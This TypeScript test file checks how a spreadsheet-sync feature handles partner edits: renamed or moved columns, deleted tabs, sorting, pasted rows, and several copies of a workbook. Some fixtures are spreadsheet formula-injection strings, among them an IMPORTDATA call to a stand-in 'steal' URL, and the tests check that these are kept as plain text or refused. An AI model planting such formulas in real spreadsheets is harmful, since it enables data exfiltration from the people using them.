import { describe, expect, it } from 'vitest';
import type { Cell } from '../../src/grid/cell.ts';
import { dateToSerial } from '../../src/grid/serial-date.ts';
import { syncPartner } from '../../src/partners/sync-partner.ts';
import { memoryOfSnapshot } from '../../src/workbook/memory/memory-of-snapshot.ts';
import { MemoryKept } from './support/memory-desk.ts';
import { firstBodyRow, onSheet, remake } from './support/remake.ts';
import { ccg, options, sharedPlan } from './support/shared-plan.ts';
import { SheetUser } from './support/sheet-user.ts';

const c3f = { Objective: 'C3', Ref: 'F' };
const nothing = { status: 'done', cameIn: [], wentOut: [], conflicts: [], refused: [], guards: [] };

/** The whole content of a workbook, to see that nothing of it was written. */
async function contentOf(book: { read(): Promise<{ sheets: readonly { grid: { rows: unknown } }[] }> }) {
  return JSON.stringify((await book.read()).sheets.map(({ grid }) => grid.rows));
}

describe('what partners do to their spreadsheet', () => {
  it('a figure typed with a percent sign: stays where it is, and the sentence says what would do', async () => {
    const { remote, officer, colleague, sync } = await sharedPlan();
    const [figure] = await colleague('Measurements').rows();
    const before = await officer('Measurements').rows();
    await colleague('Measurements').type({ 'Row ID': figure?.['Row ID'] ?? null }, 'Value', 0.67);
    const { sheets } = await remote.read();
    const sheet = sheets.find(({ name }) => name === 'Measurements');
    const rowIndex = sheet?.grid.rows.findIndex((row) => row.includes(0.67)) ?? -1;
    const columnIndex = sheet?.grid.rows[rowIndex]?.indexOf(0.67) ?? -1;
    const asPercent = { kind: 'set-cell', sheet: 'Measurements', rowIndex, columnIndex } as const;
    await remote.apply([{ ...asPercent, expected: 0.67, value: 0.67, numberFormat: '0%' }]);
    const { cameIn, refused } = await sync();
    expect(cameIn).toEqual([]);
    expect(refused.map(({ sentence }) => sentence)).toEqual([
      expect.stringMatching(/^The cell shows 67%, and holds the number 0\.67\. If 67 is meant/),
    ]);
    expect(await officer('Measurements').rows()).toEqual(before);
  });

  it('header renamed: stops and asks, and goes on without that column when told to', async () => {
    const { desk, partner, book, officer, sync } = await sharedPlan();
    const at = (rows: Cell[][]) => rows[firstBodyRow - 1]?.indexOf('Progress') ?? -1;
    await remake(
      desk,
      partner.spreadsheetId,
      onSheet('Actions', (rows) => {
        const column = at(rows);
        const header = rows[firstBodyRow - 1];
        const row = rows[firstBodyRow];
        if (header) header[column] = 'How we get on';
        if (row) row[column] = 'Typed under the new name';
        return rows;
      }),
    );
    const before = await contentOf(book.workbook);
    const ours = await officer('Actions').rows();
    expect(await sync()).toMatchObject({
      status: 'stopped',
      guards: [{ code: 'header-missing', side: 'remote', canConfirm: true }],
    });
    expect(await contentOf(book.workbook)).toBe(before);
    const went = await sync({ confirmed: ['header-missing'] });
    expect(went).toMatchObject({ status: 'done', cameIn: [] });
    const theirs = JSON.stringify((await desk.open(partner.spreadsheetId).read()).sheets[1]?.grid.rows);
    expect(theirs).toContain('Typed under the new name');
    expect(await officer('Actions').rows()).toEqual(ours);
  });

  it('column moved: is found by its header, and what is typed there comes in', async () => {
    const { desk, partner, officer, sync } = await sharedPlan();
    await remake(
      desk,
      partner.spreadsheetId,
      onSheet('Actions', (rows) => {
        const header = rows[firstBodyRow - 1] ?? [];
        const from = header.indexOf('Status');
        return rows.map((row, index) => {
          if (index < firstBodyRow - 1) return row;
          const [cell = null] = row.splice(from, 1);
          return [cell, ...row];
        });
      }),
    );
    expect(await sync()).toMatchObject(nothing);
    await new SheetUser(desk.open(partner.spreadsheetId), 'Actions').type(c3f, 'Status', 'Complete');
    expect(await sync()).toMatchObject({ status: 'done', conflicts: [], cameIn: [{ column: 'Status' }] });
    expect(await officer('Actions').row(c3f)).toMatchObject({ Status: 'Complete' });
  });

  it('tab renamed: is found by its headers', async () => {
    const { desk, partner, officer, sync } = await sharedPlan();
    await remake(desk, partner.spreadsheetId, (sheets) =>
      sheets.map((sheet) => (sheet.name === 'Actions' ? { ...sheet, name: 'Our work', tables: [] } : sheet)),
    );
    await new SheetUser(desk.open(partner.spreadsheetId), 'Our work').type(c3f, 'Status', 'Complete');
    expect(await sync()).toMatchObject({ status: 'done', cameIn: [{ column: 'Status' }] });
    expect(await officer('Actions').row(c3f)).toMatchObject({ Status: 'Complete' });
  });

  it('tab deleted: stops, says which, and removes nothing', async () => {
    const { desk, partner, book, sync } = await sharedPlan();
    await remake(desk, partner.spreadsheetId, (sheets) => sheets.filter(({ name }) => name !== 'Actions'));
    const before = await contentOf(book.workbook);
    const report = await sync();
    expect(report).toMatchObject({
      status: 'stopped',
      guards: [{ code: 'table-missing', table: 'Actions', canConfirm: false }],
    });
    expect(await contentOf(book.workbook)).toBe(before);
  });

  it('sort by a partner mid-sync: every value lands in its row', async () => {
    const { desk, partner, officer, sync } = await sharedPlan();
    const id = partner.spreadsheetId;
    const actions = (await officer('Actions').rows()).filter((row) => row['Organisation'] === ccg);
    for (const [index, row] of actions.entries())
      await officer('Actions').type({ 'Row ID': row['Row ID'] ?? null }, 'Leads', `Lead ${index}`);
    const inner = desk.open(id);
    desk.books.set(id, {
      name: inner.name,
      read: async (readOptions) => {
        const read = await inner.read(readOptions);
        const reversed = onSheet('Actions', (rows) => [
          ...rows.slice(0, firstBodyRow),
          ...rows
            .slice(firstBodyRow)
            .filter((row) => row[0] !== null)
            .reverse(),
        ]);
        const sorted = memoryOfSnapshot({ ...read, sheets: reversed(read.sheets) });
        desk.books.set(id, sorted);
        return read;
      },
      apply: (changes, applyOptions) => desk.open(id).apply(changes, applyOptions),
    });
    const report = await sync({ confirmed: ['mass-change'] });
    expect(report).toMatchObject({ status: 'done', refused: [] });
    const theirs = await new SheetUser(desk.open(id), 'Actions').rows();
    for (const [index, row] of actions.entries())
      expect(theirs.find((one) => one['Row ID'] === row['Row ID'])?.['Leads']).toBe(`Lead ${index}`);
    expect(await sync()).toMatchObject(nothing);
  });

  it('rows pasted twice: the copy is a row of its own, with a Row ID of its own', async () => {
    const { desk, partner, officer, sync } = await sharedPlan();
    let pasted: Cell[] = [];
    await remake(
      desk,
      partner.spreadsheetId,
      onSheet('Measurements', (rows) => {
        pasted = [...(rows[firstBodyRow] ?? [])];
        return [...rows, pasted];
      }),
    );
    const before = (await officer('Measurements').rows()).length;
    expect(await sync()).toMatchObject({
      status: 'done',
      cameIn: [{ kind: 'row-added', table: 'Measurements' }],
    });
    const ours = await officer('Measurements').rows();
    expect(ours.length).toBe(before + 1);
    expect(new Set(ours.map((row) => row['Row ID'])).size).toBe(ours.length);
    expect(await sync()).toMatchObject(nothing);
  });

  it('Row ID erased: the row gets it back where it holds what it held, and is asked about where it was edited', async () => {
    const { desk, partner, colleague, officer, sync } = await sharedPlan();
    const known = await colleague('Actions').row(c3f);
    await colleague('Actions').type(c3f, 'Row ID', null);
    expect(await sync()).toMatchObject({ status: 'done', cameIn: [], conflicts: [] });
    expect(await colleague('Actions').row(c3f)).toEqual(known);
    await colleague('Actions').type(c3f, 'Progress', 'Edited without its Row ID');
    await colleague('Actions').type(c3f, 'Row ID', null);
    const before = await officer('Actions').rows();
    expect(await sync()).toMatchObject({ status: 'stopped', guards: [{ code: 'row-ids-erased' }] });
    expect(await officer('Actions').rows()).toEqual(before);
    expect(await new SheetUser(desk.open(partner.spreadsheetId), 'Actions').row(c3f)).toMatchObject({
      Progress: 'Edited without its Row ID',
    });
  });

  it('sheet emptied: stops and asks, and takes no row out of the plan', async () => {
    const { desk, partner, book, sync } = await sharedPlan();
    await remake(
      desk,
      partner.spreadsheetId,
      onSheet('Actions', (rows) => rows.slice(0, firstBodyRow)),
    );
    const before = await contentOf(book.workbook);
    expect(await sync()).toMatchObject({
      status: 'stopped',
      guards: [{ code: 'mass-removal', table: 'Actions' }],
    });
    expect(await contentOf(book.workbook)).toBe(before);
  });
});

describe('what partners type', () => {
  it('=IMPORTDATA(…) and +44… as text: comes in as the text that was typed, in the log too', async () => {
    const { colleague, officer, sync } = await sharedPlan();
    const typed = '=IMPORTDATA("http://elsewhere.example/steal")';
    await colleague('Actions').type(c3f, 'Progress', typed);
    await colleague('Updates').add({ Action: 'C3 F', Author: '+44 20 7946 0000', Update: '@SUM(1+1)*cmd' });
    const report = await sync();
    expect(report).toMatchObject({ status: 'done', refused: [], conflicts: [] });
    expect((await officer('Actions').row(c3f))?.['Progress']).toBe(typed);
    expect(await officer('Updates').row({ Author: '+44 20 7946 0000' })).toMatchObject({
      Update: '@SUM(1+1)*cmd',
      Organisation: ccg,
    });
    const log = await officer('Sync log').row({ Column: 'Progress' });
    expect(log?.['After']).toBe(typed);
  });

  it('=IMPORTDATA(…) as a formula: stays where it is, and is told', async () => {
    const { colleague, officer, sync } = await sharedPlan();
    const before = await officer('Actions').row(c3f);
    await colleague('Actions').type(c3f, 'Progress', { formula: 'IMPORTDATA("x")', value: 'fetched' });
    expect(await sync()).toMatchObject({
      status: 'done',
      cameIn: [],
      refused: [{ table: 'Actions', sentence: expect.stringContaining('holds the formula =IMPORTDATA') }],
    });
    expect(await officer('Actions').row(c3f)).toEqual(before);
    expect((await colleague('Actions').row(c3f))?.['Progress']).toBe('fetched');
  });

  it('40,000 characters: stay in the spreadsheet whole, and are told', async () => {
    const { desk, partner, officer, sync } = await sharedPlan();
    const long = 'x'.repeat(40_000);
    const before = await officer('Actions').row(c3f);
    await remake(
      desk,
      partner.spreadsheetId,
      onSheet('Actions', (rows) => {
        const column = rows[firstBodyRow - 1]?.indexOf('Progress') ?? -1;
        const row = rows.find((cells) => cells[0] === 'F' && cells[1] === 'C3');
        if (row) row[column] = long;
        return rows;
      }),
    );
    expect(await sync()).toMatchObject({
      status: 'done',
      cameIn: [],
      refused: [{ sentence: expect.stringContaining('40,000 characters') }],
    });
    expect(await officer('Actions').row(c3f)).toEqual(before);
    const theirs = await new SheetUser(desk.open(partner.spreadsheetId), 'Actions').row(c3f);
    expect(theirs?.['Progress']).toBe(long);
  });

  it('dates: are the same day on both sides, and a text that is none stays and is told', async () => {
    const { colleague, officer, sync } = await sharedPlan();
    await colleague('Actions').type(c3f, 'Override until', dateToSerial('2017-02-01'));
    await colleague('Updates').add({
      Action: 'C3 F',
      Date: dateToSerial('2017-01-02'),
      Update: 'A real day',
    });
    await colleague('Updates').add({ Action: 'C3 F', Date: 'next week', Update: 'No day' });
    const report = await sync();
    expect(report.status).toBe('done');
    expect((await officer('Actions').row(c3f))?.['Override until']).toBe(dateToSerial('2017-02-01'));
    expect((await officer('Updates').row({ Update: 'A real day' }))?.['Date']).toBe(
      dateToSerial('2017-01-02'),
    );
    expect(await officer('Updates').row({ Update: 'No day' })).toMatchObject({ Date: null });
    expect((await colleague('Updates').row({ Update: 'No day' }))?.['Date']).toBe('next week');
    expect(report.refused.map(({ sentence }) => sentence).join(' ')).toContain('next week');
  });
});

describe('several copies of a plan', () => {
  it('two officers syncing at once: the later one is told who syncs, and goes on from there', async () => {
    const { desk, partner, book, colleague, sync } = await sharedPlan();
    const other = {
      workbook: memoryOfSnapshot(await book.workbook.read()),
      kept: copyOf(book.kept),
      calculatesItself: false,
    };
    await colleague('Actions').type(c3f, 'Status', 'Complete');
    let refusal = '';
    const inner = desk.open(partner.spreadsheetId);
    desk.books.set(partner.spreadsheetId, {
      name: inner.name,
      read: async (readOptions) => {
        desk.books.set(partner.spreadsheetId, inner);
        await syncPartner(other, desk, partner, { ...options, holder: 'the other officer' }).catch(
          (error: Error) => {
            refusal = error.message;
          },
        );
        return inner.read(readOptions);
      },
      apply: (changes, applyOptions) => inner.apply(changes, applyOptions),
    });
    expect(await sync()).toMatchObject({ status: 'done', cameIn: [{ column: 'Status' }] });
    expect(refusal).toContain('a test is writing to this spreadsheet just now');
    const second = await syncPartner(other, desk, partner, options);
    expect(second).toMatchObject({ status: 'done', conflicts: [], cameIn: [{ column: 'Status' }] });
    expect(await new SheetUser(other.workbook, 'Actions').row(c3f)).toEqual(
      await colleague('Actions').row(c3f),
    );
  });

  it('workbook copied: both copies sync, each from what it saw', async () => {
    const { desk, partner, book, officer, colleague, sync } = await sharedPlan();
    const copy = {
      workbook: memoryOfSnapshot(await book.workbook.read()),
      kept: copyOf(book.kept),
      calculatesItself: false,
    };
    const copied = new SheetUser(copy.workbook, 'Actions');
    await officer('Actions').type(c3f, 'Leads', 'From the first copy');
    await sync();
    await copied.type(c3f, 'Leads', 'From the second copy');
    const report = await syncPartner(copy, desk, partner, options);
    expect(report.conflicts).toMatchObject([
      { row: 'C3 F', column: 'Leads', local: 'From the second copy', remote: 'From the first copy' },
    ]);
    expect(await copied.row(c3f)).toMatchObject({ Leads: 'From the second copy' });
    expect(await colleague('Actions').row(c3f)).toMatchObject({ Leads: 'From the first copy' });
  });

  it('workbook restored from last month: takes in what happened since, and writes nothing old over it', async () => {
    const { desk, partner, book, colleague, sync } = await sharedPlan();
    const lastMonth = {
      workbook: memoryOfSnapshot(await book.workbook.read()),
      kept: copyOf(book.kept),
      calculatesItself: false,
    };
    await colleague('Actions').type(c3f, 'Progress', 'First news');
    await sync();
    await colleague('Actions').type(c3f, 'Progress', 'Second news');
    await sync();
    const report = await syncPartner(lastMonth, desk, partner, options);
    expect(report).toMatchObject({ status: 'done', conflicts: [], wentOut: [] });
    expect(await new SheetUser(lastMonth.workbook, 'Actions').row(c3f)).toMatchObject({
      Progress: 'Second news',
    });
    expect(await colleague('Actions').row(c3f)).toMatchObject({ Progress: 'Second news' });
  });

  it('workbook without what was kept in it: asks about what differs, and loses nothing', async () => {
    const { desk, partner, book, officer, colleague } = await sharedPlan();
    await officer('Actions').type(c3f, 'Leads', 'Ours');
    await colleague('Actions').type(c3f, 'Progress', 'Theirs');
    const report = await syncPartner({ ...book, kept: new MemoryKept() }, desk, partner, options);
    expect(report.conflicts.map(({ column, reason }) => [column, reason])).toEqual([
      ['Leads', 'never-agreed'],
      ['Progress', 'never-agreed'],
    ]);
    expect(await officer('Actions').row(c3f)).toMatchObject({ Leads: 'Ours' });
    expect(await colleague('Actions').row(c3f)).toMatchObject({ Progress: 'Theirs' });
  });
});

function copyOf(kept: MemoryKept): MemoryKept {
  const copy = new MemoryKept();
  for (const [key, text] of kept.texts) copy.texts.set(key, text);
  return copy;
}
